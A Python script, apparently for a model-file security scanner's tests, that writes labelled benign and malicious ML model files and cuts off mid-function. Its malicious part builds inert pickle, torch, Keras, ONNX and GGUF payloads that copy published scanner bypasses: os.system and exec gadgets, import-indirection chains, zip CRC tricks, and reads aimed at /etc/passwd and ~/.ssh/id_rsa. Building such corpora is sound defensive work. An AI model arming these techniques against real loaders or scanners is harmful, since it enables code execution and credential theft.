"""Generate the labelled model corpus in this folder with the REAL libraries.

Run from the repository root (never from inside src/, whose gguf.py would shadow
the gguf package):

    pip install torch==2.13.0 numpy joblib scikit-learn pandas onnx h5py gguf \
        safetensors keras tensorboard py7zr xgboost lightgbm statsmodels omegaconf \
        transformers accelerate trl peft sentence-transformers lightning tables lz4 diffusers
    pip install --no-deps keras-hub regex tokenizers sentencepiece kagglehub kagglesdk
    KERAS_BACKEND=torch python tests/assets/models/generate.py            # everything
    KERAS_BACKEND=torch python tests/assets/models/generate.py benign_breadth  # one section

A library that is not installed skips its part of ``benign_breadth`` (the committed
files stay). GGUF chat templates come from ``chat_templates.py`` beside this script.

Benign files are written by torch, numpy, joblib, scikit-learn, pandas, onnx,
h5py, gguf, safetensors and Keras 3 (torch backend) themselves. TensorFlow is
too large to install here, so SavedModel files are built from TensorFlow's own
protobuf schema as shipped in the ``tensorboard`` package (meta_graph_pb2,
graph_pb2) wrapped in the two-field SavedModel message; the result is
byte-for-byte what ``tf.saved_model.save`` writes for the same graph.

Malicious files are INERT (``true``, ``id`` on loopback, ``/nonexistent``
paths) and reproduce published attacks; ``labels.json`` records for each file
its label, the verdict chainward must give, and the source it imitates. Nothing
here is ever loaded by the tests.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path

warnings.filterwarnings("ignore")
HERE = Path(__file__).resolve().parent
BENIGN = HERE / "benign"
MALICIOUS = HERE / "malicious"
LABELS: dict[str, dict[str, str]] = {}


def put(kind: str, name: str, data: bytes, expect: str, source: str) -> Path:
    folder = BENIGN if kind == "benign" else MALICIOUS
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    LABELS[f"{folder.name}/{name}"] = {"label": kind, "expect": expect, "source": source}
    return path


def label(path: Path, kind: str, expect: str, source: str) -> None:
    LABELS[str(path.relative_to(HERE))] = {"label": kind, "expect": expect, "source": source}


# ------------------------------------------------------------------ hand-written pickles


def s4(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def glob0(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call0(module: str, name: str, arg: str) -> bytes:
    """Protocol-0 GLOBAL + MARK + STRING + TUPLE + REDUCE."""
    return glob0(module, name) + b"(S'" + arg.encode() + b"'\ntR"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def benign_pickles() -> None:
    import collections
    import datetime
    import decimal

    import numpy as np

    objs = {
        "stdlib_values.pkl": {
            "when": datetime.datetime(2024, 1, 2, 3, 4, 5),
            "delta": datetime.timedelta(3),
            "price": decimal.Decimal("1.10"),
            "od": collections.OrderedDict(a=1),
            "dd": collections.defaultdict(list, a=[1]),
            "counter": collections.Counter("abca"),
            "set": {1, 2},
            "frozen": frozenset({3}),
            "complex": complex(1, 2),
            "ba": bytearray(b"xy"),
        },
        "numpy_arrays_p2.pkl": [np.arange(6).reshape(2, 3), np.float64(1.5), np.dtype("<f4")],
        "numpy_random.pkl": {"rs": np.random.RandomState(0), "gen": np.random.default_rng(1)},
    }
    for name, obj in objs.items():
        proto = 2 if name.endswith("_p2.pkl") else 4
        put(
            "benign",
            f"pickle/{name}",
            pickle.dumps(obj, protocol=proto),
            "safe",
            "pickle.dumps of standard value types",
        )
    for proto in (0, 1, 5):
        put(
            "benign",
            f"pickle/plain_proto{proto}.pkl",
            pickle.dumps({"a": [1, 2.5, "x", b"y", None, True]}, protocol=proto),
            "safe",
            "pickle.dumps of plain data",
        )


def benign_sklearn() -> None:
    import joblib
    import numpy as np
    import pandas as pd
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.RandomState(0)
    x = rng.rand(30, 3)
    y = (x[:, 0] > 0.5).astype(int)
    models = {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(x, y),
        "gboost": GradientBoostingClassifier(n_estimators=2, max_depth=1).fit(x, y),
        "tree": DecisionTreeClassifier(max_depth=2).fit(x, y),
        "knn": KNeighborsClassifier(3).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
    }
    for name, model in models.items():
        put(
            "benign",
            f"sklearn/{name}.pkl",
            pickle.dumps(model, protocol=4),
            "safe",
            "scikit-learn estimator, pickle.dumps",
        )
        buf = io.BytesIO()
        joblib.dump(model, buf)
        put("benign", f"sklearn/{name}.joblib", buf.getvalue(), "safe", "joblib.dump")
    for compress in ("zlib", "gzip", "bz2", "xz", "lzma"):
        path = BENIGN / f"sklearn/forest.joblib.{compress}"
        joblib.dump(models["forest"], path, compress=(compress, 3))
        label(path, "benign", "safe", f"joblib.dump compress={compress}")
    path = BENIGN / "sklearn/arrays_objects.joblib"
    joblib.dump(
        {
            "w": np.ones((4, 4)),
            "names": np.array(["a", None], dtype=object),
            "s": np.arange(3, dtype=np.int16),
        },
        path,
    )
    label(path, "benign", "safe", "joblib.dump with numeric and object arrays")
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pd.to_datetime(["2020-01-01"] * 2)})
    put(
        "benign",
        "pandas/frame.pkl",
        pickle.dumps(frame, protocol=5),
        "safe",
        "pandas DataFrame.to_pickle equivalent",
    )


def benign_torch() -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.LayerNorm(3))
    out = BENIGN / "torch"
    out.mkdir(parents=True, exist_ok=True)
    torch.save(model.state_dict(), out / "state_dict.pt")
    torch.save(
        model.state_dict(), out / "state_dict_legacy.pt", _use_new_zipfile_serialization=False
    )
    torch.save(model, out / "full_model.pt")
    torch.save(
        {
            "epoch": 3,
            "model": model.state_dict(),
            "optim": torch.optim.AdamW(model.parameters()).state_dict(),
            "half": torch.zeros(2, dtype=torch.float16),
            "bf16": torch.zeros(2, dtype=torch.bfloat16),
        },
        out / "checkpoint.pth",
    )
    torch.save(model.state_dict(), out / "renamed_weights.bin")
    torch.jit.save(torch.jit.script(model), out / "torchscript.pt")
    for name in (
        "state_dict.pt",
        "state_dict_legacy.pt",
        "full_model.pt",
        "checkpoint.pth",
        "renamed_weights.bin",
        "torchscript.pt",
    ):
        label(out / name, "benign", "safe", "torch.save / torch.jit.save")


def benign_numpy_safetensors() -> None:
    import numpy as np
    from safetensors.numpy import save as st_save

    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.float32).reshape(3, 4))
    put("benign", "numpy/array.npy", buf.getvalue(), "safe", "numpy.save")
    buf = io.BytesIO()
    np.save(buf, np.array(["text", 3, None], dtype=object), allow_pickle=True)
    put("benign", "numpy/object_array.npy", buf.getvalue(), "safe", "numpy.save object array")
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(3), b=np.ones(2))
    put("benign", "numpy/arrays.npz", buf.getvalue(), "safe", "numpy.savez")
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.arange(100))
    put("benign", "numpy/compressed.npz", buf.getvalue(), "safe", "numpy.savez_compressed")
    data = st_save(
        {"w": np.ones((2, 2), dtype=np.float32), "b": np.zeros(3, dtype=np.int64)},
        metadata={"note": "eval( is just text here"},
    )
    put("benign", "safetensors/model.safetensors", data, "safe", "safetensors.numpy.save")


def benign_onnx() -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((3, 3), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["h"]), helper.make_node("Relu", ["h"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [weight],
    )
    model = helper.make_model(graph, producer_name="chainward-corpus")
    out = BENIGN / "onnx"
    out.mkdir(parents=True, exist_ok=True)
    onnx.save(model, out / "model.onnx")
    label(out / "model.onnx", "benign", "safe", "onnx.helper + onnx.save")
    ext = out / "external"
    ext.mkdir(exist_ok=True)
    onnx.save(
        model,
        ext / "model.onnx",
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=0,
    )
    label(ext / "model.onnx", "benign", "safe", "onnx.save with external data (relative)")


def benign_gguf() -> None:
    import gguf
    import numpy as np

    template = (
        "{% for message in messages %}{% if message['role'] not in ['user', 'assistant', "
        "'system'] %}{{ raise_exception('bad role') }}{% endif %}{{ '<|im_start|>' + "
        "message['role'] + '\\n' + message['content'] | trim + '<|im_end|>\\n' }}{% endfor %}"
        "{% set ns = namespace(tools=false) %}{% if tools %}{{ tools | tojson }}{% endif %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    )
    path = BENIGN / "gguf/chatml.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(template)
    writer.add_tokenizer_model("gpt2")
    writer.add_token_list(["<s>", "</s>", "a"])
    writer.add_tensor("w", np.ones((2, 2), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    label(path, "benign", "safe", "gguf.GGUFWriter with a ChatML-style template")


def benign_keras() -> None:
    import h5py
    import keras

    out = BENIGN / "keras"
    out.mkdir(parents=True, exist_ok=True)
    model = keras.Sequential(
        [keras.Input((3,)), keras.layers.Dense(2, activation="relu"), keras.layers.Dense(1)]
    )
    model.compile(optimizer="adam", loss="mse")
    model.save(out / "dense.keras")
    model.save(out / "dense.h5")
    label(out / "dense.keras", "benign", "safe", "keras 3 Model.save (.keras)")
    label(out / "dense.h5", "benign", "safe", "keras 3 legacy HDF5 save")
    config = json.loads(_h5_config(out / "dense.h5"))
    with h5py.File(out / "v2_header_vlen.h5", "w", libver="latest") as f:
        f.attrs["model_config"] = json.dumps(config)  # variable-length string, OHDR header
    label(
        out / "v2_header_vlen.h5",
        "benign",
        "safe",
        "h5py libver=latest: version-2 object header, variable-length string attribute",
    )
    with h5py.File(out / "weights_only.h5", "w") as f:
        f.create_dataset("layer/kernel", data=[[1.0, 2.0]])
    label(out / "weights_only.h5", "benign", "safe", "h5py file without a model config")


def benign_old_library_files() -> None:
    """Files written by old library versions, as shipped in joblib's and numpy's test data."""
    import joblib
    import numpy

    picks = {
        Path(joblib.__file__).parent / "test/data": [
            "joblib_0.10.0_pickle_py27_np17.pkl",
            "joblib_0.11.0_pickle_py36_np111.pkl.xz",
            "joblib_0.9.2_compressed_pickle_py27_np17.gz",
            "joblib_0.10.0_compressed_pickle_py34_np19.gz",
        ],
        Path(numpy.__file__).parent / "lib/tests/data": [
            "py2-objarr.npy",
            "py2-objarr.npz",
            "win64python2.npy",
        ],
    }
    for folder, names in picks.items():
        for name in names:
            src = folder / name
            if src.exists():
                put(
                    "benign",
                    f"old/{name}",
                    src.read_bytes(),
                    "safe",
                    f"{folder.parent.parent.name} test data (BSD-3-Clause), written by an old "
                    "release",
                )


def _h5_config(path: Path) -> str:
    import h5py

    with h5py.File(path, "r") as f:
        value = f.attrs["model_config"]
    return value.decode() if isinstance(value, bytes) else str(value)


def saved_model_bytes(ops: list[str]) -> bytes:
    """saved_model.pb: SavedModel{1: schema version, 2: MetaGraphDef} with TF's own schema."""
    from tensorboard.compat.proto import graph_pb2, meta_graph_pb2

    graph = graph_pb2.GraphDef()
    for i, op in enumerate(
        [
            "Placeholder",
            "Const",
            "SaveV2",
            "RestoreV2",
            "MergeV2Checkpoints",
            "StringJoin",
            "ShardedFilename",
            *ops,
        ]
    ):
        node = graph.node.add()
        node.name = f"n{i}_{op}"
        node.op = op
    meta = meta_graph_pb2.MetaGraphDef()
    meta.meta_info_def.tags.append("serve")
    meta.graph_def.CopyFrom(graph)
    body = meta.SerializeToString()
    return b"\x08\x01" + b"\x12" + _varint(len(body)) + body


def _varint(n: int) -> bytes:
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        out += bytes([byte | (0x80 if n else 0)])
        if not n:
            return out


def benign_tf() -> None:
    path = BENIGN / "tf/saved_model/saved_model.pb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(saved_model_bytes(["MatMul", "Relu", "Identity"]))
    label(path, "benign", "safe", "SavedModel protobuf (TF schema via tensorboard protos)")


# ------------------------------------------------------------------ malicious


def malicious_pickles() -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, ("true",))

    for proto in (0, 2, 4, 5):
        put(
            "malicious",
            f"pickle/os_system_proto{proto}.pkl",
            pickle.dumps(Evil(), protocol=proto),
            "unsafe",
            "classic __reduce__ -> os.system (every scanner's first test)",
        )
    cases: dict[str, tuple[bytes, str]] = {
        "builtins_exec.pkl": (
            call0("builtins", "exec", "import os; os.system('true')") + b".",
            "exec payload",
        ),
        "py2_builtin_eval.pkl": (
            call0("__builtin__", "eval", "1+1") + b".",
            "Python 2 name __builtin__.eval mapped by fix_imports",
        ),
        "commands_getoutput.pkl": (
            b"\x80\x02" + call0("commands", "getoutput", "true") + b".",
            "sandbox research: torch protocol 2 writes subprocess as commands",
        ),
        "pty_spawn_obj.pkl": (
            b"(cpty\nspawn\nS'true'\no.",
            "trailofbits/fickling#108: OBJ with pty.spawn",
        ),
        "payload_then_garbage.pkl": (
            call0("os", "system", "true") + b"\xff\xfe garbage",
            "research: payload_then_invalid_opcode",
        ),
        "truncated_no_stop.pkl": (call0("os", "system", "true"), "research: truncated_no_stop"),
        "int_0x1_differential.pkl": (
            b"I0x1\n0" + call0("os", "system", "true") + b".",
            "research: INT parsed with base 0 (pickletools stops)",
        ),
        "pip_main.pkl": (call0("pip", "main", "install") + b".", "CVE-2025-1716 (pip.main)"),
        "torch_collect_env_run.pkl": (
            call0("torch.utils.collect_env", "run", "true") + b".",
            "protectai/modelscan#338: torch.utils.collect_env.run",
        ),
        "mp_spawnv_passfds.pkl": (
            glob0("multiprocessing.util", "spawnv_passfds") + b"(S'/bin/true'\n(S'true'\nt)tR.",
            "protectai/modelscan#338: multiprocessing.util.spawnv_passfds",
        ),
        "pandas_read_csv.pkl": (
            call0("pandas.io.parsers.readers", "read_csv", "http://127.0.0.1:9/x.csv") + b".",
            "protectai/modelscan#338: pandas read_csv exfiltration",
        ),
        "mailcap_findmatch.pkl": (
            call0("mailcap", "findmatch", "x") + b".",
            "mmaitre314/picklescan#69: mailcap.findmatch",
        ),
        "ensurepip_run_pip.pkl": (
            call0("ensurepip", "_run_pip", "x") + b".",
            "GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip)",
        ),
        "timeit_timeit.pkl": (
            call0("timeit", "timeit", "import os; os.system('true')") + b".",
            "GHSA-v7x6-rv5q-mhwc (timeit.timeit)",
        ),
        "asyncio_subprocess.pkl": (
            p4(
                s4("asyncio.unix_events")
                + s4("_UnixSubprocessTransport._start")
                + b"\x93"
                + b"("
                + s4("true")
                + b"t"
                + b"R"
            ),
            "CVE-2025-10157 (asyncio submodule, dotted name)",
        ),
        "numpy_f2py.pkl": (
            call0("numpy.f2py.crackfortran", "getlincoef", "x") + b".",
            "fickling PR #210: numpy.f2py.crackfortran.getlincoef",
        ),
        "shutil_copy.pkl": (
            glob0("shutil", "copy") + b"(S'/nonexistent/a'\nS'/nonexistent/b'\ntR.",
            "google/saferpickle#2: shutil.copy",
        ),
    }
    # computed callees: getattr / importlib / pkgutil / pydoc / operator chains
    cases["getattr_chain.pkl"] = (
        glob0("builtins", "getattr")
        + b"("
        + call0("builtins", "__import__", "os")
        + b"S'system'\ntR(S'true'\ntR.",
        "getattr(__import__('os'), 'system') chain",
    )
    cases["importlib_import_module.pkl"] = (
        glob0("builtins", "getattr")
        + b"("
        + call0("importlib", "import_module", "os")
        + b"S'system'\ntR(S'true'\ntR.",
        "mmaitre314/picklescan#66: importlib.import_module",
    )
    cases["pkgutil_resolve_name.pkl"] = (
        call0("pkgutil", "resolve_name", "os:system") + b"(S'true'\ntR.",
        "GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name universal bypass",
    )
    cases["pydoc_locate.pkl"] = (
        call0("pydoc", "locate", "os.system") + b"(S'true'\ntR.",
        "pydoc.locate indirection",
    )
    cases["operator_attrgetter.pkl"] = (
        call0("operator", "attrgetter", "system")
        + b"("
        + call0("importlib", "import_module", "os")
        + b"tR(S'true'\ntR.",
        "GHSA-m273-6v24-x4m4: operator.attrgetter",
    )
    cases["methodcaller.pkl"] = (
        glob0("operator", "methodcaller")
        + b"(S'system'\nS'true'\ntR("
        + call0("importlib", "import_module", "os")
        + b"tR.",
        "GHSA-955r-x9j8-7rhh: operator.methodcaller",
    )
    # memo confusion: picklescan#22 (memo keyed by previous opcode argument)
    cases["memo_stack_global.pkl"] = (
        p4(
            s4("builtins")
            + b"\x94"
            + s4("len")
            + b"\x94"
            + b"0"
            + b"0"
            + s4("os")
            + b"\x94"
            + s4("system")
            + b"\x94"
            + b"h\x02h\x03\x93"
            + s4("true")
            + b"\x85R"
        ),
        "mmaitre314/picklescan#22: memo confusion with STACK_GLOBAL",
    )
    cases["stack_global_computed_name.pkl"] = (
        b"\x80\x04"
        + glob0("builtins", "getattr")
        + s4("")
        + s4("join")
        + b"\x86R"
        + b"]"
        + s4("o")
        + b"a"
        + s4("s")
        + b"a"
        + b"\x85R"
        + s4("system")
        + b"\x93"
        + s4("true")
        + b"\x85R.",
        "protectai/modelscan#331: computed module name (str.join) for STACK_GLOBAL",
    )
    cases["numpy_builtins_build.pkl"] = (
        b"\x80\x04"
        + s4("numpy")
        + s4("size")
        + b"\x93\x94\x94"
        + s4("numpy")
        + s4("__builtins__")
        + b"\x93\x94\x94"
        + b"h\x01}}"
        + s4("shape")
        + b"h\x03s\x86b"
        + b"h\x01h\x01"
        + s4("eval")
        + b"\x86R"
        + s4("__import__('os').system('true')")
        + b"\x85R.",
        "protectai/modelscan#330: numpy.__builtins__ via BUILD on a global",
    )
    cases["build_setstate_smuggling.pkl"] = (
        glob0("collections", "OrderedDict")
        + b")R"
        + b"(N}S'__setstate__'\n"
        + glob0("os", "system")
        + b"stb"
        + b"S'true'\nb.",
        "protectai/modelscan#85: BUILD plants __setstate__",
    )
    cases["nested_pickle_loads.pkl"] = (
        glob0("pickle", "loads")
        + b"(C"
        + bytes([len(call0("os", "system", "true") + b".")])
        + call0("os", "system", "true")
        + b".tR.",
        "protectai/modelscan#267: nested pickle.loads",
    )
    cases["marshal_function.pkl"] = (
        glob0("types", "FunctionType") + b"(" + glob0("marshal", "loads") + b"(C\x00tR}tR.",
        "mmaitre314/picklescan PR #74: marshal + types.FunctionType",
    )
    cases["ext_code_callee.pkl"] = (
        b"\x80\x02\x82\x07(S'true'\ntR.",
        "EXT1 code resolved through copyreg's registry at load",
    )
    cases["second_stream.pkl"] = (
        pickle.dumps({"ok": 1}, protocol=2) + pickle.dumps(Evil(), 2),
        "payload in a second pickle stream (loaders reading several)",
    )
    for name, (data, source) in cases.items():
        put("malicious", f"pickle/{name}", data, "unsafe", source)
    put(
        "malicious",
        "pickle/renamed_payload.txt",
        pickle.dumps(Evil(), 2),
        "unsafe",
        "CVE-2025-1889/CVE-2025-10155: pickle under a non-model extension",
    )


def malicious_torch() -> None:
    import torch

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            import subprocess

            return (subprocess.run, (["true"],))

    out = MALICIOUS / "torch"
    out.mkdir(parents=True, exist_ok=True)
    state = torch.nn.Linear(2, 2).state_dict()
    torch.save({"model": state, "hook": Evil()}, out / "subprocess_run.pt")
    label(
        out / "subprocess_run.pt",
        "malicious",
        "unsafe",
        "sandbox research: torch proto 2 writes subprocess.run as commands.run",
    )
    torch.save(
        {"model": state, "hook": Evil()},
        out / "legacy_payload.pt",
        _use_new_zipfile_serialization=False,
    )
    label(out / "legacy_payload.pt", "malicious", "unsafe", "legacy (non-zip) torch checkpoint")
    # payload in the legacy sys_info stream (modelscan scans only the first stream)
    raw = (out / "legacy_payload.pt").read_bytes()
    benign_legacy = io.BytesIO()
    torch.save(state, benign_legacy, _use_new_zipfile_serialization=False)
    data = benign_legacy.getvalue()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    assert data.startswith(magic + proto)
    sys_info_end = len(magic + proto) + _stream_len(data[len(magic + proto) :])
    evil_sys_info = pickle.dumps(Evil(), protocol=2)
    put(
        "malicious",
        "torch/legacy_sys_info_payload.pt",
        magic + proto + evil_sys_info + data[sys_info_end:],
        "unsafe",
        "research: modelscan reads only the first legacy stream",
    )
    del raw
    # zip tricks on a real checkpoint: bad CRC, local/central name mismatch, renamed file
    evil_zip = (out / "subprocess_run.pt").read_bytes()
    put(
        "malicious",
        "torch/bad_crc.pt",
        _corrupt_crc(evil_zip, "data.pkl"),
        "unsafe",
        "CVE-2025-10156: CRC error stops picklescan, not torch",
    )
    put(
        "malicious",
        "torch/name_mismatch.pt",
        _local_name_mismatch(evil_zip, "data.pkl"),
        "unsafe",
        "CVE-2025-1944: local/central file name mismatch",
    )
    put(
        "malicious",
        "torch/model.safetensors",
        evil_zip,
        "unsafe",
        "CVE-2025-1889: torch zip under another extension",
    )
    # TorchScript-free zip with a differently named pickle member
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps({"w": 1}, 2))
        z.writestr("archive/extra/weights.bin", pickle.dumps(Evil(), 2))
    put(
        "malicious",
        "torch/hidden_member.pt",
        buf.getvalue(),
        "unsafe",
        "pickle hidden in a non-.pkl member (content sniffing)",
    )


def _stream_len(data: bytes) -> int:
    import pickletools

    for _op, _arg, pos in pickletools.genops(data):
        end = pos
    return end + 1


def _corrupt_crc(data: bytes, member_suffix: str) -> bytes:
    buf = bytearray(data)
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + nlen])
        if name.endswith(member_suffix.encode()):
            crc = struct.unpack_from("<I", buf, pos + 16)[0]
            struct.pack_into("<I", buf, pos + 16, crc ^ 0xFFFF)
            local = struct.unpack_from("<I", buf, pos + 42)[0]
            struct.pack_into("<I", buf, local + 14, crc ^ 0xFFFF)
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def _local_name_mismatch(data: bytes, member_suffix: str) -> bytes:
    buf = bytearray(data)
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + nlen])
        if name.endswith(member_suffix.encode()):
            local = struct.unpack_from("<I", buf, pos + 42)[0]
            fake = name[:-3] + b"txt"
            buf[local + 30 : local + 30 + nlen] = fake
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def malicious_containers() -> None:
    import joblib
    import numpy as np

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, ("true",))

    payload = pickle.dumps(Evil(), protocol=2)
    buf = io.BytesIO()
    np.save(buf, np.array([Evil()], dtype=object), allow_pickle=True)
    npy = buf.getvalue()
    put("malicious", "numpy/object_payload.npy", npy, "unsafe", "numpy object array payload")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("weights.npy", npy)
    put("malicious", "numpy/object_payload.npz", buf.getvalue(), "unsafe", "npz member payload")
    path = MALICIOUS / "joblib/after_array.joblib"
    path.parent.mkdir(parents=True, exist_ok=True)
    joblib.dump({"w": np.ones((64, 64)), "evil": Evil()}, path)
    label(path, "malicious", "unsafe", "research: genops scanners derail on joblib array bytes")
    path = MALICIOUS / "joblib/after_array.joblib.gz"
    joblib.dump({"w": np.ones((8, 8)), "evil": Evil()}, path, compress=("gzip", 3))
    label(path, "malicious", "unsafe", "compressed joblib payload")
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("model.bin", payload)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        z.writestr("inner.zip", inner.getvalue())
    put(
        "malicious",
        "archive/nested.zip",
        outer.getvalue(),
        "unsafe",
        "zip in zip (modelscan stops at one level)",
    )
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tar:
        info = tarfile.TarInfo("model/weights.pkl")
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    put("malicious", "archive/model.tar", tbuf.getvalue(), "unsafe", "tar member payload")
    put(
        "malicious",
        "archive/model.tar.gz",
        gzip.compress(tbuf.getvalue()),
        "unsafe",
        "gzip-wrapped tar payload",
    )
    put(
        "malicious",
        "archive/payload.pkl.gz",
        gzip.compress(payload),
        "unsafe",
        "gzip-wrapped pickle",
    )
    try:
        import py7zr

        path = MALICIOUS / "archive/payload.7z"
        with py7zr.SevenZipFile(path, "w") as archive:
            archive.writestr(payload, "model.pkl")
        label(path, "malicious", "unsafe", "7z member payload (picklescan 7z extra)")
    except ImportError:
        pass


def malicious_formats() -> None:
    import keras
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    out = MALICIOUS / "keras"
    out.mkdir(parents=True, exist_ok=True)
    model = keras.Sequential(
        [keras.Input((3,)), keras.layers.Dense(2), keras.layers.Lambda(lambda x: x + 0)]
    )
    model.save(out / "lambda.keras")
    model.save(out / "lambda.h5")
    label(out / "lambda.keras", "malicious", "unsafe", "CVE-2024-3660: Lambda bytecode in .keras")
    label(out / "lambda.h5", "malicious", "unsafe", "CVE-2025-9905: Lambda in legacy HDF5")
    import h5py

    with h5py.File(out / "lambda_v2_header.h5", "w", libver="latest") as f:
        f.attrs["model_config"] = _h5_config(out / "lambda.h5")
    label(
        out / "lambda_v2_header.h5",
        "malicious",
        "unsafe",
        "Lambda config in a version-2 object header (variable-length string)",
    )
    benign = (BENIGN / "keras/dense.keras").read_bytes()
    for name, patch, source in (
        (
            "get_file.keras",
            {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "get_file",
            },
            "CVE-2025-8747: keras.utils.get_file gadget",
        ),
        (
            "unsafe_deser.keras",
            {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "enable_unsafe_deserialization",
            },
            "CVE-2025-9906: enable_unsafe_deserialization from config",
        ),
        (
            "os_module.keras",
            {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            },
            "CVE-2025-1550: arbitrary module import from config",
        ),
    ):
        put("malicious", f"keras/{name}", _patch_keras(benign, patch), "unsafe", source)
    weight = numpy_helper.from_array(np.ones((3, 3), dtype=np.float32), "W")
    weight.data_location = TensorProto.EXTERNAL
    entry = weight.external_data.add()
    entry.key, entry.value = "location", "/etc/passwd"
    weight.ClearField("raw_data")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [weight],
    )
    put(
        "malicious",
        "onnx/external_absolute.onnx",
        helper.make_model(graph).SerializeToString(),
        "unsafe",
        "ONNX external data with an absolute path (arbitrary file read)",
    )
    entry.value = "../../../../home/user/.ssh/id_rsa"
    put(
        "malicious",
        "onnx/external_traversal.onnx",
        helper.make_model(graph).SerializeToString(),
        "unsafe",
        "ONNX external data escaping the model folder",
    )
    graph2 = helper.make_graph(
        [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    put(
        "malicious",
        "onnx/python_op.onnx",
        helper.make_model(graph2).SerializeToString(),
        "unsafe",
        "onnxruntime-extensions PyOp custom operator",
    )
    for name, ops, source in (
        ("read_file", ["ReadFile"], "modelscan/modelaudit SavedModel ReadFile"),
        ("write_file", ["WriteFile"], "SavedModel WriteFile"),
        ("py_func", ["PyFunc"], "tf.py_function in a SavedModel graph"),
    ):
        put("malicious", f"tf/{name}/saved_model.pb", saved_model_bytes(ops), "unsafe", source)
    _gguf_ssti()


def _patch_keras(data: bytes, function_ref: dict[str, object]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(content)
                layer = config["config"]["layers"][-1]
                layer["config"]["activation"] = function_ref
                content = json.dumps(config).encode()
            dst.writestr(item, content)
    return out.getvalue()


def _gguf_ssti() -> None:
    import gguf
    import numpy as np

    path = MALICIOUS / "gguf/ssti_template.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    template = (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['sys']"
        ".modules['os'].system('true') }}"
    )
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(template)
    writer.add_tensor("w", np.ones(2, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    label(path, "malicious", "unsafe", "CVE-2024-34359 (llama-cpp-python chat template SSTI)")


# ------------------------------------------------------------------ benign breadth


def benign_breadth() -> None:
    """Ordinary files from many libraries (the held-out corpus is drawn from the same kinds)."""
    for part in (
